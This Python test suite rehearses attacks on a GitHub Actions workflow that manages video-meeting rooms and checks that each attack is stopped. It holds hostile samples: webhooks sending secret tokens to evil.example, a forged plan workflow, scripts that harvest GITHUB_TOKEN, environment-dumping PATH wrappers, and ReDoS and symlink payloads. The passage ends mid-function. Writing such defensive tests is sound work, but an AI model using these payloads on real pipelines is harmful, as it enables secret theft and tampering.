"""Pull requests of people who mean harm, and pushes of people who do not look. Each is stopped, within the time and the memory
that a program may take (loopback.py), and the rehearsal says where.

An attack gets the stage, does what somebody would do, checks that nothing came of it, and gives out what stopped it.
Afterwards the default branch is what it was before."""

import base64
import contextlib
import html
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import time
import urllib.request

from github import BOT, REPOSITORY, WRITE
from loopback import ACTION, KEY, MEMORY, ROOT, Failed, Silent, check, git, largest, redirected, serve

ATTACKS = []
PUBLIC = "maxParticipants: 3\nprivacy: public\n"


def attack(item, who, through):
    """Notes an attack on a point of the threat model: who tries, and through what."""

    def note(function):
        ATTACKS.append((item, who, through, function))
        return function

    return note


def all_of(s, attacked):
    for item, who, through, function in attacked:
        before = s.main()
        stopped = function(s)
        s.go_on(before)
        check(largest() < MEMORY, f"{through}: a program took {largest()} KiB")
        print(f"attack {item}: {who}, through {through}: stopped by {stopped}", flush=True)


def refused(s, code, *words):
    """The last run failed with this code, and its log says why."""
    check(s.run.failed is not None and s.run.failed.endswith(f"ended with {code}"), f"{s.run.failed}\n{s.runner.log}")
    for word in words:
        check(word in s.run.log(), f"{word!r} is not in {s.run.log()}")
    return f"{s.run.workflow}, {s.run.failed}"


def not_planned(s, pull, *words):
    """The trusted workflow made no plan, and says so in the pull request."""
    check(s.commented is False, s.runner.log)
    for word in words:
        check(word in s.comment_of(pull), s.comment_of(pull))
    kept = [one for one in s.hub.artifacts.values() if one["name"] == f"roomctl-plan-{pull['number']}"]
    check(all(b"plan.roomctl" not in one["content"] for one in kept), "no plan")
    return f"{s.run.workflow}, {s.run.failed}"


def told(s, kind):
    """The last issue of a kind."""
    return [one for one in s.hub.issues if one["labels"] == [f"roomctl-{kind}"]][-1]


# --- 1, 12: secrets


@attack("1", "a fork", "a webhook that refers to the account's key")
def the_key_in_a_webhook(s):
    pull = s.pull_request({"rooms/leak.yaml": "meetingEndedWebhook: https://evil.example/?k=${env:METERED_SECRET_KEY}\n"})
    where = not_planned(s, pull, "variable-name")
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    return f"{where}; merged all the same: {refused(s, 3)}"


@attack("12", "a fork", "another room's secret, sent to a host of its own")
def a_secret_of_another_room(s):
    policy = (
        "policies:\n  - id: hooks-are-ours\n    message: webhooks lead to our own host\n"
        "    expression: '!has(room.meetingEndedWebhook) || room.meetingEndedWebhook.startsWith(\"https://hooks.example.com/\")'\n"
    )
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + policy})
    pull = s.pull_request({"rooms/leak.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
    return not_planned(s, pull, "hooks-are-ours")


@attack("12", "a fork", "another room's secret, sent to a host that a variable seems to be")
def a_secret_behind_a_host_that_is_not_seen(s):
    tried = ("https://{}@evil.example/", "https://{}.evil.example/", "https://evil.example\\@hooks.example.com/{}")
    rooms = {f"rooms/leak-{n}.yaml": one.format("${env:ROOM_TICKETS_TOKEN}") for n, one in enumerate(tried)}
    pull = s.pull_request({name: f"meetingEndedWebhook: {url}\n" for name, url in rooms.items()})
    where = not_planned(s, pull, "its host in clear")
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    return f"{where}; merged all the same: {refused(s, 3)}"


@attack("12", "a fork", "a variable that is a token and no address, in front of all other rooms")
def a_variable_that_is_no_address(s):
    alone = s.pull_request({"rooms/token.yaml": "meetingEndedWebhook: ${env:ROOM_TICKETS_TOKEN}\n"})
    check(s.commented and s.apply(s.merge(alone)) is False, s.runner.log)
    beside = s.pull_request({"rooms/beside-a-token.yaml": "maxParticipants: 3\n"}, who="colleague")
    check(s.apply(s.merge(beside)) is False, s.runner.log)
    check(s.room("beside-a-token") and s.room("token") is None, s.runner.log)
    return refused(s, 5, "`meetingEndedWebhook` is no URL with what is set: ROOM_TICKETS_TOKEN")


@attack("12", "a fork", "another room's secret, sent to one host among more than a comment holds")
def a_host_among_too_many(s):
    hooks = ("meetingJoinWebhook", "meetingLeftWebhook", "meetingStartedWebhook", "meetingEndedWebhook")
    label = ".".join(["x" * 60] * 3)
    hook = "{}: https://{}-{}." + label + ".example/${{env:ROOM_TICKETS_TOKEN}}\n"
    rooms = {f"rooms/crowd-{n}.yaml": "".join(hook.format(name, name.lower(), n) for name in hooks) for n in range(90)}
    pull = s.pull_request({**rooms, "rooms/crowd-90.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
    where = not_planned(s, pull, "not planned", "make several pull requests of it")
    check(s.apply(s.merge(pull)) is False and s.room("crowd-90") is None, s.runner.log)
    return where


@attack("12", "a fork", "a secret that is applied already, and is to go elsewhere, beside a line that harms nobody")
def a_host_that_moves(s):
    hook, token = "meetingEndedWebhook: https://{}/${{env:ROOM_TICKETS_TOKEN}}\n", "${env:ROOM_TICKETS_TOKEN}"
    room = lambda host: "privacy: private\n" + hook.format(host)
    before = {"rooms/hook.yaml": room("hooks.example.com"), "rooms/lit.yaml": room("hooks.example.com").replace(token, "x")}
    before |= {"rooms/below/_defaults.yaml": hook.format("hooks.example.com"), "rooms/below/deep.yaml": "maxParticipants: 3\n"}
    check(s.apply(s.merge(s.pull_request(before, who="colleague"))), s.runner.log)
    here, more = s.main(), "joinVideoOn: true\n"
    for name, text, said in (
        ("hook", room("evil.example"), "evil.example"),
        ("hook", room("hooks.example.com:6666"), "hooks.example.com:6666"),
        ("hook", room("hooks.example.com").replace("TICKETS", "OTHER"), "ROOM_OTHER_TOKEN"),
        ("lit", room("evil.example"), "evil.example"),
        ("below/_defaults", hook.format("evil.example"), "evil.example"),
    ):
        pull = s.pull_request({f"rooms/{name}.yaml": text + more})
        check(said in s.comment_of(pull) and "meetingEndedWebhook" in s.comment_of(pull), s.comment_of(pull))
    # In two steps: merged without a plan, it is in the comment of whoever changes the room next, and not sent by another's plan.
    s.straight_to_main({"rooms/hook.yaml": room("evil.example")})
    check(s.apply(s.main()) is False and "evil.example" not in s.room("hook"), s.room("hook"))
    stopped = refused(s, 4, "hook: no reviewed plan has it")
    pull = s.pull_request({"rooms/hook.yaml": room("evil.example") + more}, who="colleague")
    check("evil.example" in s.comment_of(pull), s.comment_of(pull))
    s.go_on(here)
    return f"{stopped}; and shown by comment.yml"


# --- 2: what the configuration moves


@attack("2", "a fork", "an address of its own for the service")
def an_address_in_the_configuration(s):
    with socket.create_server(("127.0.0.1", 0)) as thief:
        thief.setblocking(False)
        config = f"app: acme\nbase_url: http://127.0.0.1:{thief.getsockname()[1]}\n"
        pull = s.pull_request({"roomctl.yaml": config, "rooms/quick-2.yaml": "maxParticipants: 8\n"})
        check(s.service not in s.comment_of(pull) and "whose guards count" in s.comment_of(pull), s.comment_of(pull))
        check(s.apply(s.merge(pull)) is False, s.runner.log)
        try:
            thief.accept()
            check(False, "somebody came there with the key")
        except BlockingIOError:
            pass
    return refused(s, 4, "the plan is for the service at")


@attack("2", "a fork", "an address elsewhere for the service")
def an_address_elsewhere(s):
    pull = s.pull_request({"roomctl.yaml": "app: acme\nbase_url: https://evil.example\n", "rooms/quick-2.yaml": "maxParticipants: 8\n"})
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    return refused(s, 3, "base_url")


# --- 3, 6: the privileged side believes nobody


def forging(name, job):
    """A workflow that uploads a plan of its own choice under the name that apply.yml looks for."""
    return (
        f"name: {name}\non: pull_request\njobs:\n  {job}:\n    runs-on: ubuntu-24.04\n    steps:\n"
        "      - uses: actions/checkout@v4\n"
        "      - run: |\n"
        "          BRANCH=roomctl-state bash .github/actions/roomctl/state.sh take\n"
        "          mkdir forged && roomctl plan --out forged/plan.roomctl\n"
        "          printf '{\"pull_request\": %s, \"head\": \"%s\", \"base\": \"%s\"}' \"$NUMBER\" \"$HEAD\" \"$GITHUB_SHA\" > forged/source.json\n"
        "        env:\n"
        "          NUMBER: ${{ github.event.pull_request.number }}\n"
        "          HEAD: ${{ github.event.pull_request.head.sha }}\n"
        "      - uses: actions/upload-artifact@v4\n"
        "        with:\n"
        "          name: roomctl-plan-${{ github.event.pull_request.number }}\n"
        "          path: ${{ github.workspace }}/forged\n"
    )


def a_forged_plan(s, workflow, about):
    """The pull request's own workflow makes a plan, and the trusted one never runs, since nothing starts it."""
    pull = s.open({"rooms/forged.yaml": PUBLIC, f".github/workflows/{workflow}": forging("comment", "comment")})
    event = {"pull_request.number": pull["number"], "pull_request.head.sha": pull["head"]["sha"]}
    made, _ = s.runner.job(workflow, s.trial_merge(pull), {"head_branch": pull["branch"], **about}, event)
    name = f"/actions/artifacts?name=roomctl-plan-{pull['number']}"
    check(made and len(s.hub.get(name)["artifacts"]) == 1, s.runner.log)
    # The workflow itself is left out of the merge: its artifact stays.
    check(s.apply(s.merge(pull)) is False and s.room("forged") is None, s.runner.log)
    return refused(s, 4, "no reviewed plan has it", "no plan was reviewed for", s.main()[:12])


@attack("3, 6", "a fork", "a plan that its own plan.yml uploads under the name of the trusted one")
def a_plan_of_the_forks_workflow(s):
    return a_forged_plan(s, "plan.yml", {"event": "pull_request", "head_repository": "stranger/rooms"})


@attack("3, 6", "a fork", "a workflow that calls itself comment.yml")
def a_namesake_of_the_trusted_workflow(s):
    return a_forged_plan(s, "comment.yml", {"event": "pull_request", "head_repository": "stranger/rooms"})


@attack("3, 6", "somebody who may push branches", "comment.yml on a branch of the repository")
def the_trusted_workflow_of_another_branch(s):
    return a_forged_plan(s, "comment.yml", {"event": "workflow_dispatch"})


@attack("3", "a fork", "an action and scripts that show something else, and take what they find")
def code_in_the_pull_request(s):
    thief = 'echo "took $GITHUB_TOKEN $TOKEN $METERED_SECRET_KEY" > "$HOME/stolen-$GITHUB_RUN_ID"\n'
    files = {f"{ACTION}/{name}": thief for name in ("run.sh", "state.sh")}
    files |= {f"{ACTION}/{name}": "import os\nos.system('touch $HOME/stolen-$GITHUB_RUN_ID')\n" for name in ("github.py", "reviewed.py")}
    pull = s.pull_request({**files, "rooms/quick-2.yaml": PUBLIC})
    ran = {int(path.name.split("-")[1]) for path in s.work.glob("stolen-*")}
    check(ran == {s.run.id - 1}, f"only the run without a secret ran it: {ran}, {s.run.id}")
    check("privacy-widened" in s.comment_of(pull), s.comment_of(pull))
    return "comment.yml, which runs the code of the default branch and comments on the room files"


@attack("3", "a fork", "a head that is another one than was asked for")
def a_head_that_moves(s):
    pull = s.pull_request({"rooms/moves.yaml": "maxParticipants: 3\n"})
    s.push_to(pull, {"rooms/moves.yaml": PUBLIC}, plan=False)
    s.trial_merge(pull)
    kept = pull["head"]["sha"]
    pull["head"]["sha"] = git("-C", s.clone, "rev-parse", "HEAD^")
    s.comment(pull)
    pull["head"]["sha"] = kept
    check("privacy-widened" not in s.comment_of(pull), s.comment_of(pull))
    stopped = refused(s, 1, "the pull request moved meanwhile")
    check(s.apply(s.merge(pull)) is False and s.room("moves") is None, s.runner.log)
    return f"{stopped}; merged before its plan: {refused(s, 4)}"


@attack("3", "a fork", "an older commit, pushed again when the comment showed another, and merged before it is planned")
def an_older_commit_pushed_again(s):
    pull = s.pull_request({"rooms/older.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
    first = pull["head"]["sha"]
    # Once behind a harmless one, and once behind one that is not planned at all.
    for files in ({"rooms/older.yaml": "maxParticipants: 6\n"}, {"rooms/older.yaml": "privacy: [\n"}):
        s.push_to(pull, files)
        check("evil.example" not in s.comment_of(pull), s.comment_of(pull))
        back_to(s, pull, first)
        s.trial_merge(pull)
        before = s.main()
        check(s.apply(s.merge(pull)) is False and s.room("older") is None, s.runner.log)
        stopped = refused(s, 4, "older: no reviewed plan has it")
        s.go_on(before)
        pull.update(state="open", merged_at=None)
    return stopped


def back_to(s, pull, sha):
    """A forced push of a commit that the pull request had before."""
    git("-C", s.clone, "checkout", "-q", "-B", pull["branch"], sha)
    s.push(f"refs/pull/{pull['number']}/head")
    pull["head"]["sha"] = sha


# --- 4, 5: what is whose, and in which order


@attack("4", "a fork", "a base that lags behind, so that others' change looks like its own")
def a_base_that_lags(s):
    other = s.pull_request({"rooms/tea.yaml": "maxParticipants: 9\nprivacy: private\n"}, who="colleague")
    s.merge(other)
    pull = s.pull_request({"rooms/mine.yaml": "maxParticipants: 3\n"})
    report = s.report()
    said = {change["room"]: change["explanation"] for change in report["changes"]}
    check(said == {"mine": "this-change", "tea": "merged-earlier"}, said)
    check("merged earlier, not applied" in s.comment_of(pull), s.comment_of(pull))
    return "comment.yml, which compares with the first parent of the merge commit"


@attack("5", "somebody who may push", "a commit straight to the default branch")
def straight_to_main(s):
    sha = s.straight_to_main({"rooms/late.yaml": "maxParticipants: 2\n"})
    check(s.apply(sha) is False and s.room("late") is None, s.runner.log)
    issue = s.hub.issues[-1]
    check(issue["labels"] == ["roomctl-apply"] and issue["state"] == "open" and sha[:12] in issue["body"], issue)
    stopped = refused(s, 4, "late: no reviewed plan has it")
    # The next pull request shows it, and covers it.
    pull = s.pull_request({"rooms/next.yaml": "maxParticipants: 2\n"})
    check(s.apply(s.merge(pull)) and s.room("late") and issue["state"] == "closed", s.runner.log)
    return stopped


@attack("5, 6", "somebody who may push", "a change beside a pull request whose plan is empty")
def beside_an_empty_plan(s):
    pull = s.pull_request({"rooms/tea.yaml": "# A comment.\n" + (s.clone / "rooms/tea.yaml").read_text()})
    check(s.report()["summary"]["update"] == 0 and "beside" not in s.comment_of(pull), s.report())
    s.straight_to_main({"rooms/beside.yaml": PUBLIC})
    check(s.apply(s.merge(pull)) is False and s.room("beside") is None, s.runner.log)
    return refused(s, 4, "beside: no reviewed plan has it")


@attack("5", "a default of somebody else", "a merge between the plan and its own merge")
def a_default_in_between(s):
    pull = s.pull_request({"rooms/tea.yaml": "maxParticipants: 6\nprivacy: public\n"})
    s.straight_to_main({"rooms/_defaults.yaml": "privacy: private\nautoJoin: true\n"})
    check(s.apply(s.merge(pull)) is False, "a room that moved since the review holds everything back")
    return refused(s, 4, "tea: its file is another than the reviewed one")


# --- 7: links, size, files that a checkout brings


def hostile_files(item, through, files, *words):
    @attack(item, "a fork", through)
    def function(s):
        pull = s.pull_request({"rooms/good.yaml": "maxParticipants: 3\n"}, also=files)
        return not_planned(s, pull, "not planned", *words)

    function.__name__ = through


def link(clone):
    os.symlink("/dev/zero", clone / "rooms/zero.yaml")


def executable(clone):
    (clone / "rooms/run.yaml").write_text("privacy: private\n")
    (clone / "rooms/run.yaml").chmod(0o755)


def attributes(clone):
    (clone / ".gitattributes").write_text("rooms/*.yaml ident eol=crlf filter=evil\n")


def large(clone):
    (clone / "rooms/large.yaml").write_text("#" * (300 * 1024))


hostile_files("7", "a link among the room files", link, "is a link")
hostile_files("7", "a file of 300 KiB", large, "rooms/large.yaml is larger than 262144 bytes")
hostile_files("7", "an executable room file", executable, "is executable")
hostile_files("7", "attributes that rewrite files on checkout", attributes, ".gitattributes")


def hostile_tree(through, top, *words):
    """A commit that nobody can check out: `top` gives out the lines of its tree."""

    @attack("7", "a fork", through)
    def function(s):
        tree = git("-C", s.clone, "mktree", given=top(s.clone))
        pull = s.open_commit(git("-C", s.clone, "commit-tree", tree, "-p", "main", "-m", "Tree"))
        s.comment(pull)
        return not_planned(s, pull, *words)

    function.__name__ = through


def without_end(clone):
    kind, name = f"100644 blob {git('-C', clone, 'hash-object', '-w', 'rooms/tea.yaml')}", "{}.yaml"
    for _ in range(8):
        tree = git("-C", clone, "mktree", given="".join(f"{kind}\t{name.format(n)}\n" for n in range(10)))
        kind, name = f"040000 tree {tree}", "d{}"
    return f"{kind}\trooms\n"


def submodule(clone):
    tree = git("-C", clone, "mktree", given=f"160000 commit {'1' * 40}\tothers\n")
    return f"040000 tree {tree}\trooms\n"


hostile_tree("a tree of a hundred million files in ten objects", without_end, "more files than can be listed")
hostile_tree("a submodule among the room files", submodule, "is a submodule")


@attack("7", "a fork", "a state, a journal and a link in the place of the lock, in the checkout")
def a_state_in_the_checkout(s):
    precious = s.work / "precious"
    precious.write_text("not to be emptied\n")

    def plant(clone):
        (clone / ".roomctl").mkdir()
        (clone / ".roomctl/state.json").write_text('{"app": "acme"}')
        (clone / ".roomctl/state.json.journal").write_text("{}\n")
        os.symlink(precious, clone / ".roomctl/state.json.lock")

    pull = s.pull_request({"rooms/planted.yaml": "maxParticipants: 3\n"}, also=plant)
    check(s.commented and s.apply(s.merge(pull)), s.runner.log)
    check(precious.read_text() == "not to be emptied\n", "the lock was followed")
    check('"planted"' in s.state() and '"tea"' in s.state(), "the state is that of its branch")
    return "state.sh take, which begins with nothing"


@attack("7", "a fork", "a directory of the state that is a link")
def a_state_directory_that_is_a_link(s):
    outside = s.work / "outside"
    outside.mkdir()
    (outside / "kept").write_text("kept\n")
    pull = s.pull_request({"rooms/linked.yaml": "maxParticipants: 3\n"}, also=lambda clone: os.symlink(outside, clone / ".roomctl"))
    check(s.commented and s.apply(s.merge(pull)), s.runner.log)
    check([path.name for path in outside.iterdir()] == ["kept"], "nothing is written through it, nor removed")
    return "state.sh take, which begins with nothing"


FILES = ("roomctl.yaml", "mutes.yaml", "rooms/_defaults.yaml", "rooms/tea.yaml") + tuple(
    f".roomctl/state.json{ending}" for ending in ("", ".journal", ".lock")
)


def endless(kind, put):
    @attack("7", "whoever writes the checkout", f"{kind} in the place of each file that is read")
    def function(s):
        ended = {}
        for file in FILES:
            shutil.copytree(s.clone, s.work / "copy", symlinks=True)
            place = s.work / "copy" / file
            place.parent.mkdir(exist_ok=True)
            place.unlink(missing_ok=True)
            put(place)
            done = s.by_itself(s.work / "copy", "apply", "--yes")
            ended[file] = done.returncode
            check(done.returncode in (3, 7), f"{file}: {done}")
            shutil.rmtree(s.work / "copy")
        return f"the reader of all files: {ended}"

    function.__name__ = kind


endless("a link to /dev/zero", lambda place: os.symlink("/dev/zero", place))
endless("a pipe", os.mkfifo)


# --- 8: what is compiled


def looped(before, middle, behind):
    """Ten times ten times ten..."""
    return "".join(f"[1,2,3,4,5,6,7,8,9,10].{before}({name}, " for name in "abcdefghij") + middle + ")" * 10 + behind


POLICIES = {
    "a policy of loops in loops": looped("all", "true", ""),
    "a policy that grows": looped("map", "1", " == []"),
    "a policy of 65,435 parentheses": "(" * 65_435 + "true" + ")" * 65_435,
    "a policy that is nested deeply": "size([" * 1_000 + "1" + "])" * 1_000 + " > 0",
    "a policy of 1,230 terms": "1" + "+1" * 1_230 + " > 0",
    "a pattern in a policy that needs millions of states": "room.roomName.matches('((((a{0,99}){0,99}){0,99}){0,99}){0,99}')",
}
NESTED = "{" * 3_000 + "a" + "}" * 3_000
GLOBS = {
    "a policy for rooms of a pattern that is nested deeply": {"policies": [{"id": "p", "message": "m", "expression": "true", "rooms": NESTED}]},
    "a claim of a pattern that is nested deeply": {"owns": [NESTED]},
    "protection by patterns that fill the file": {"protected": ["[!a-y]?*{b,c}" * 100 + str(n) for n in range(180)] + [NESTED]},
}
MUTE = {"room": NESTED, "attribute": "privacy", "reason": "r", "until": "2027-01-01"}


def compiled(through, config):
    @attack("8", "a fork", through)
    def function(s):
        before = (s.clone / "roomctl.yaml").read_text()
        lines = "".join(f"{name}: {json.dumps(value)}\n" for name, value in config.items())
        pull = s.pull_request({"roomctl.yaml": before + lines, "rooms/quick-2.yaml": "maxParticipants: 7\n"})
        check(s.first is False and "whose guards count" in s.comment_of(pull), s.comment_of(pull))
        check(s.apply(s.merge(pull)) is False, s.runner.log)
        return f"plan.yml, and merged all the same: {refused(s, 3, 'roomctl.yaml:')}"

    function.__name__ = through


for through, expression in POLICIES.items():
    compiled(through, {"policies": [{"id": "p", "message": "m", "expression": expression}]})
for through, config in GLOBS.items():
    compiled(through, config)


@attack("8", "a fork", "a mute for rooms of a pattern that is nested deeply, which the trusted workflow reads")
def a_mute_of_a_pattern(s):
    pull = s.pull_request({"mutes.yaml": f"mutes: {json.dumps([MUTE])}\n", "rooms/quick-2.yaml": "maxParticipants: 7\n"})
    return not_planned(s, pull)


# --- 9, 12: what is started sees no secret


def spied(s, *names):
    """From now on, what is started under these names keeps its environment, and the one that its parent began with, but
    not that of roomctl, which knows all of it. Gives out where."""
    seen = s.work / "seen"
    seen.mkdir()
    for name in names:
        real = shutil.which(name, path=s.plain["PATH"])
        if name == "roomctl":
            real = s.program
        (s.binary / name).unlink(missing_ok=True)
        (s.binary / name).write_text(
            "#!/bin/sh\n"
            f'if [ "{name} $1" != "roomctl apply" ] && [ "{name} $1" != "roomctl render" ]; then\n'
            f"  {{ env; [ \"$(cat /proc/$PPID/comm)\" = roomctl ] || tr '\\0' '\\n' < /proc/$PPID/environ; }} >> {seen}/{name}\n"
            f'fi\nexec {real} "$@"\n'
        )
        (s.binary / name).chmod(0o755)
    return seen


def unspied(s, seen, *names):
    """What each of them saw; and all is as it was."""
    texts = {name: (seen / name).read_text() if (seen / name).exists() else "" for name in names}
    shutil.rmtree(seen)
    for name in names:
        (s.binary / name).unlink()
    shutil.copy(s.program, s.binary / "roomctl")
    return texts


@attack("9, 12", "a supplier", "programs on the PATH of a runner that keep what they see: roomctl --version, git, python3")
def programs_that_look(s):
    names = ("roomctl", "git", "python3")
    pull = s.pull_request({"rooms/look.yaml": "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_TICKETS_TOKEN}\n"})
    sha = s.merge(pull)
    seen = spied(s, *names)
    ok = s.apply(sha)
    texts = unspied(s, seen, *names)
    check(ok and s.report()["summary"]["confirmed"] == 1, s.runner.log)
    check(all("PATH=" in text for text in texts.values()), {name: len(text) for name, text in texts.items()})
    check(not any("canary" in text for text in texts.values()), [name for name in names if "canary" in texts[name]])
    return "alone.sh, which hands down by name what a step needs"


@attack("9", "whoever writes the checkout", "git, which the program starts")
def git_of_the_program(s):
    git("-C", s.clone, "checkout", "-q", "main")
    seen = spied(s, "git")
    done = s.by_itself(s.clone, "plan", "--live", "--base", "HEAD^")
    texts = unspied(s, seen, "git")
    check(done.returncode == 0 and "PATH=" in texts["git"] and "canary" not in texts["git"], done)
    return "a cleared environment"


@attack("9", "a fork", "the sandbox, which keeps its rooms in a file")
def a_secret_in_the_sandbox(s):
    s.write("rooms/sand.yaml", "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_TICKETS_TOKEN}\n")
    done = s.by_itself(s.clone, "apply", "--sandbox", "--yes")
    kept = (s.clone / ".roomctl/sandbox.json").read_text()
    check(done.returncode == 0 and '"sand"' in kept and "canary" not in kept, done)
    return "the sandbox, which resolves no real variable"


# --- 3, 5: the branch of the state moves during a run


def meanwhile(s, files):
    """Another run pushes to the branch of the state; what is None goes."""
    git("-C", s.origin, "config", "user.name", "Other")
    git("-C", s.origin, "config", "user.email", "other@example.com")
    parent = git("-C", s.origin, "rev-parse", "roomctl-state")
    tree = git("-C", s.origin, "ls-tree", parent) + "\n"
    for file, text in files.items():
        tree = "".join(line for line in tree.splitlines(True) if not line.endswith(f"\t{file}\n"))
        if text is not None:
            blob = git("-C", s.origin, "hash-object", "-w", "--stdin", given=text)
            tree += f"100644 blob {blob}\t{file}\n"
    made = git("-C", s.origin, "commit-tree", git("-C", s.origin, "mktree", given=tree), "-p", parent, "-m", "Other")
    git("-C", s.origin, "update-ref", "refs/heads/roomctl-state", made)


def raced(s, room, files):
    """An apply during which another run moves the branch. Returns whether all went well, and its commit."""
    pull = s.pull_request({f"rooms/{room}.yaml": "maxParticipants: 3\n"})
    sha = s.merge(pull)
    s.runner.before["Keep the state on its branch"] = lambda: meanwhile(s, files)
    ok = s.apply(sha)
    s.runner.before.clear()
    check(s.room(room), s.runner.log)
    return ok, sha


@attack("5", "another run", "a push to the branch of the state, which leaves the state as it was")
def a_push_beside_the_state(s):
    ok, sha = raced(s, "raced", {"note": "of another run"})
    check(ok and '"raced"' in s.state() and s.state("applied") == sha, s.runner.log)
    return "nothing, as it should be: state.sh keep fetches and pushes again"


@attack("5", "another run", "a push of another state, of the next serial")
def a_push_of_another_state(s):
    other = json.loads(s.state())
    other["serial"] += 1
    ok, sha = raced(s, "lost", {"state.json": json.dumps(other)})
    check(ok is False and json.loads(s.state()) == other and s.state("applied") != sha, s.runner.log)
    check("step Keep the state on its branch ended with 7" in s.run.log(), s.run.log())
    # Nobody else says that rooms are as they should be, and the state is not.
    check(told(s, "apply")["state"] == "open" and "the state could not be kept" in told(s, "apply")["body"], told(s, "apply"))
    spare = re.search("the state of the run is on (roomctl-state-of-run-[0-9a-f-]+)", s.run.log())[1]
    kept = json.loads(git("-C", s.origin, "show", f"{spare}:state.json"))
    check("lost" in kept["rooms"] and kept["lineage"] == other["lineage"], kept)
    # Somebody puts the two together: here the one of the run, whose room is nowhere else.
    git("-C", s.origin, "update-ref", "refs/heads/roomctl-state", git("-C", s.origin, "rev-parse", spare))
    check(s.apply(sha, allow="") and told(s, "apply")["state"] == "closed", s.runner.log)
    return f"state.sh keep, which ends with 7 and keeps the state of the run on {spare}"


@attack("5", "whoever protects the branch of the state", "a push that is refused however often it is tried")
def a_branch_that_takes_nothing(s):
    hook = s.origin / "hooks/update"
    hook.write_text('#!/bin/sh\n[ "$1" != refs/heads/roomctl-state ]\n')
    hook.chmod(0o755)
    before = s.state()
    pull = s.pull_request({"rooms/refused.yaml": "maxParticipants: 3\n"})
    sha = s.merge(pull)
    ok = s.apply(sha)
    hook.unlink()
    check(ok is False and s.state() == before and s.room("refused"), s.runner.log)
    spare = re.search("the state of the run is on (roomctl-state-of-run-[0-9a-f-]+)", s.run.log())[1]
    check('"refused"' in git("-C", s.origin, "show", f"{spare}:state.json"), s.run.log())
    # Without the state the next run looks, and finds the room as it should be.
    check(s.apply(sha) and '"refused"' in s.state(), s.runner.log)
    return f"state.sh keep, which keeps the state of the run on {spare}"


# --- 3, 5: nothing of the checkout is kept


def planted(s, broken):
    """A checkout with a state of somebody's, and one without, while `broken` keeps the action from taking the one of the
    branch: by itself, as in a workflow of somebody else, and in ours."""
    before = git("-C", s.origin, "rev-parse", "roomctl-state")
    state = s.state().replace('"private"', '"public"')

    def plant(clone):
        (clone / ".roomctl").mkdir()
        (clone / ".roomctl/state.json").write_text(state)

    for also in (plant, None):
        pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 7\n"}, also=also)
        began = s.main()
        sha = s.merge(pull)
        with broken(s):
            check(s.apply(sha) is False, s.runner.log)
            failed = s.run.failed
            given = {"command": "apply", "state": "roomctl-state", "applied": sha, "github-token": s.run.token, "version": "0.1.0"}
            try:
                s.runner.action(sha, {}, given)
                check(False, "the action fails")
            except Failed:
                pass
        check(git("-C", s.origin, "rev-parse", "roomctl-state") == before, git("-C", s.origin, "ls-tree", "roomctl-state"))
        s.go_on(began)
    return f"{failed}, and nothing is kept that the action did not take"


@contextlib.contextmanager
def without_a_release(s):
    real = s.binary / "roomctl"
    real.rename(s.work / "put-away")
    try:
        yield
    finally:
        (s.work / "put-away").rename(real)


@contextlib.contextmanager
def with_a_take_that_dies(s):
    """In the middle: what is there by then is a part."""
    real = shutil.which("git", path=s.plain["PATH"])
    (s.binary / "git").write_text(f'#!/bin/sh\ncase "$*" in */roomctl-state\\ cat-file*) exit 1 ;; esac\nexec {real} "$@"\n')
    (s.binary / "git").chmod(0o755)
    try:
        yield
    finally:
        (s.binary / "git").unlink()


@attack("3, 5", "a fork", "a state in the checkout, or none, when the program cannot be installed")
def a_state_beside_a_failed_install(s):
    return planted(s, without_a_release)


@attack("3, 5", "a fork", "a state in the checkout, or none, when taking the true one dies")
def a_state_beside_a_take_that_dies(s):
    return planted(s, with_a_take_that_dies)


# --- 10: a job that is cancelled


def cancelled(item, through, *signals):
    @attack(item, "whoever cancels a job", through)
    def function(s):
        prefix = f"slow-{len(signals)}{int(signals[0])}"
        rooms = {f"rooms/{prefix}-{n}.yaml": "maxParticipants: 3\n" for n in range(9)}
        pull = s.pull_request(rooms)
        sha = s.merge(pull)
        before = s.state()

        def cancel(child):
            deadline = time.monotonic() + 60
            while s.room(f"{prefix}-0") is None and child.poll() is None and time.monotonic() < deadline:
                time.sleep(0.01)
            for one in signals:
                child.send_signal(one)

        s.runner.cancel = cancel
        ok = s.apply(sha)
        s.runner.cancel = None
        check(ok is False, s.runner.log)
        stopped = refused(s, 130)
        receipts = s.report()["receipts"]
        done = [one for one in receipts if one["outcome"] == "confirmed"]
        check(0 < len(done) < 9 and len(receipts) == 9, receipts)
        check(s.state() != before and s.state("applied") != sha, "the state is kept, and the commit does not count as applied")
        # The next run does the rest.
        check(s.apply(sha) and all(s.room(f"{prefix}-{n}") for n in range(9)), s.runner.log)
        return f"{stopped}: {len(done)} of 9 rooms done, report and state kept, the rest done by the next run"

    function.__name__ = through


cancelled("10", "SIGINT to the shell of the step", signal.SIGINT)
cancelled("10", "SIGHUP to the shell of the step", signal.SIGHUP)


# --- 11: guards


GUARD = "guard:\n  require_allow: [privacy-widened]\n"
ALLOW = "roomctl:allow/privacy-widened"


def guarded(s, files=None):
    """A pull request that needs to be allowed what it does."""
    git("-C", s.clone, "checkout", "-q", "main")
    s.straight_to_main({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD})
    pull = s.pull_request(files or {"rooms/quick-2.yaml": PUBLIC})
    check("privacy-widened" in s.comment_of(pull), s.comment_of(pull))
    return pull


def still_private(s, room="quick-2"):
    check('"privacy":"private"' in s.room(room), s.room(room))


@attack("11", "a fork", "a label that somebody without write access set")
def a_label_without_write_access(s):
    pull = guarded(s)
    s.hub.permissions["helper"] = "read"
    s.hub.label(pull, ALLOW, "helper")
    s.plan(pull)
    check("does not count: who set it has no write access" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.runner.log)
    still_private(s)
    return refused(s, 4, "privacy-widened")


@attack("11", "a fork", "a push after the label was set")
def a_push_after_the_label(s):
